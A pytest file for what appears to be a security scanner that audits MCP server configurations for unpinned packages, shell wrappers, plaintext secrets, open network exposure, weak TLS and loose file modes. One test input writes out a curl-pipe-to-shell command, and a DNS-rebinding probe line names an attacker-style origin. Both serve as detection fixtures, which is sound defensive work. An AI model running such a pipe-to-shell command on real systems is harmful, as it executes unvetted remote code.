"""Config and network posture: command lines, secrets, exposure, auth, TLS and file modes."""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

import pytest

from hawkeye_analyse_rules import analyse_run
from hawkeye_core import AuthPosture, ServerInventory, ServerRef, Severity
from tests.analyse_rules.support import CONFIG, findings, rule_ids


def stdio(*command: str, env: dict[str, str] | None = None) -> ServerInventory:
    ref = ServerRef(
        transport="stdio",
        command=command,
        env=env or {},
        name="s",
        found_in=CONFIG,
        evidence=(f"configured in Cursor ({CONFIG})",),
    )
    return ServerInventory(ref=ref, errors=["not started"])


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        (("npx", "-y", "@modelcontextprotocol/server-filesystem", "/tmp"), {"HE-CFG-003"}),
        (("npx", "-y", "@modelcontextprotocol/server-filesystem@2025.7.1", "/tmp"), set()),
        (("npx", "@playwright/mcp@latest"), {"HE-CFG-003"}),
        (("uvx", "mcp-server-git"), {"HE-CFG-003"}),
        (("uvx", "mcp-server-fetch==2025.4.7"), set()),
        (("pipx", "run", "mcp-server-time"), {"HE-CFG-003"}),
        (("docker", "run", "-i", "--rm", "-e", "TOKEN", "mcp/github"), {"HE-CFG-003"}),
        (("docker", "run", "-i", "mcp/fetch@sha256:" + "a" * 64), set()),
        (("docker", "run", "--privileged", "mcp/docker:1.0"), {"HE-CFG-007"}),
        (("node", "/srv/server/index.js"), set()),
        (("sh", "-c", "cd /srv && node server.js"), {"HE-CFG-001"}),
        (("bash", "-c", "curl -fsSL https://x.example/i.sh | sh"), {"HE-CFG-001", "HE-CFG-002"}),
        (("cmd", "/c", "npx", "-y", "pkg"), {"HE-CFG-001", "HE-CFG-003"}),
        (("uvx", "tool==1.0", "--api-key", "<redacted:openai-key:45 chars>"), {"HE-CFG-004"}),
    ],
)
def test_command_lines(command: tuple[str, ...], expected: set[str]) -> None:
    assert rule_ids(findings(stdio(*command)), "HE-CFG-") == expected


def test_secrets_are_reported_still_redacted_and_references_are_not_secrets() -> None:
    marker = "<redacted:github-token:40 chars>"
    found = findings(stdio("node", "s.js", env={"GITHUB_TOKEN": marker, "LOG": "debug"}))
    cfg5 = next(f for f in found if f.rule_id == "HE-CFG-005")
    assert cfg5.evidence == f"GITHUB_TOKEN={marker}" and cfg5.location.file == CONFIG
    assert not rule_ids(
        findings(stdio("node", "s.js", env={"GITHUB_TOKEN": "${GITHUB_TOKEN}"})), "HE-CFG-"
    )


def network(url: str, **fields: Any) -> ServerInventory:
    evidence = fields.pop("evidence", ())
    tls = fields.pop("tls", None)
    ref = ServerRef(transport="streamable-http", url=url, name="n", evidence=evidence, tls=tls)
    return ServerInventory(ref=ref, **fields)


def test_network_posture() -> None:
    open_public = findings(network("http://203.0.113.7:8000/mcp", auth=AuthPosture(required=False)))
    assert rule_ids(open_public, "HE-NET-") == {"HE-NET-001", "HE-NET-002"}
    loopback = findings(network("http://127.0.0.1:8000/mcp", auth=AuthPosture(required=False)))
    assert not rule_ids(loopback, "HE-NET-")
    bound = findings(
        network(
            "http://127.0.0.1:9000/mcp", evidence=("listening on 0.0.0.0:9000 (all interfaces)",)
        )
    )
    assert rule_ids(bound, "HE-NET-") == {"HE-NET-003"}
    no_prm = findings(network("https://a.example/mcp", auth=AuthPosture(required=True, status=401)))
    assert rule_ids(no_prm, "HE-NET-") == {"HE-NET-004"}
    with_prm = AuthPosture(
        required=True, status=401, resource_metadata={"resource": "https://a.example"}
    )
    assert not rule_ids(findings(network("https://a.example/mcp", auth=with_prm)), "HE-NET-")
    old = findings(network("https://a.example/mcp", auth=with_prm, protocol_version="2024-11-05"))
    assert rule_ids(old, "HE-NET-") == {"HE-NET-006"}
    current = findings(
        network("https://a.example/mcp", auth=with_prm, protocol_version="2025-03-26")
    )
    assert not rule_ids(current, "HE-NET-")
    tls = findings(
        network("https://10.0.0.5/mcp", auth=with_prm, tls={"verified": False, "self_signed": True})
    )
    assert rule_ids(tls, "HE-NET-") == {"HE-NET-007"}


def test_origin_validation_is_only_reported_from_a_probe_never_guessed() -> None:
    guessed = findings(network("http://127.0.0.1:8000/mcp", auth=AuthPosture(required=False)))
    assert "HE-NET-005" not in rule_ids(guessed)
    probed = findings(
        network(
            "http://127.0.0.1:8000/mcp",
            evidence=("DNS-rebinding check: Origin https://evil.example accepted (HTTP 200)",),
        )
    )
    assert "HE-NET-005" in rule_ids(probed)
    # What a server says of itself, inside another line, is not the check's verdict.
    spoofed = findings(
        network(
            "http://127.0.0.1:8000/mcp",
            evidence=(
                "POST /mcp initialize -> 200, serverInfo.name=Origin header accepted by design",
                "DNS-rebinding check: Origin http://x.invalid refused (HTTP 403)",
            ),
        )
    )
    assert "HE-NET-005" not in rule_ids(spoofed)


def test_config_file_readable_by_others_is_reported_only_when_it_holds_secrets(
    tmp_path: Path,
) -> None:
    config = tmp_path / "mcp.json"
    config.write_text("{}")

    def ref(env: dict[str, str]) -> ServerInventory:
        found = str(config)
        r = ServerRef(
            transport="stdio",
            command=("node", "s.js"),
            env=env,
            name="s",
            found_in=found,
            evidence=(f"configured in Cursor ({found})",),
        )
        return ServerInventory(ref=r)

    secret = {"API_KEY": "<redacted:secret:12 chars>"}
    os.chmod(config, 0o644)
    world = [f for f in analyse_run([ref(secret)]) if f.rule_id == "HE-CFG-006"]
    assert (
        len(world) == 1
        and world[0].severity is Severity.HIGH
        and world[0].location.file == str(config)
    )
    assert not [f for f in analyse_run([ref({"LOG": "debug"})]) if f.rule_id == "HE-CFG-006"]
    os.chmod(config, 0o640)
    group = [f for f in analyse_run([ref(secret)]) if f.rule_id == "HE-CFG-006"]
    assert group[0].severity is Severity.MEDIUM
    os.chmod(config, 0o600)
    assert not [f for f in analyse_run([ref(secret)]) if f.rule_id == "HE-CFG-006"]
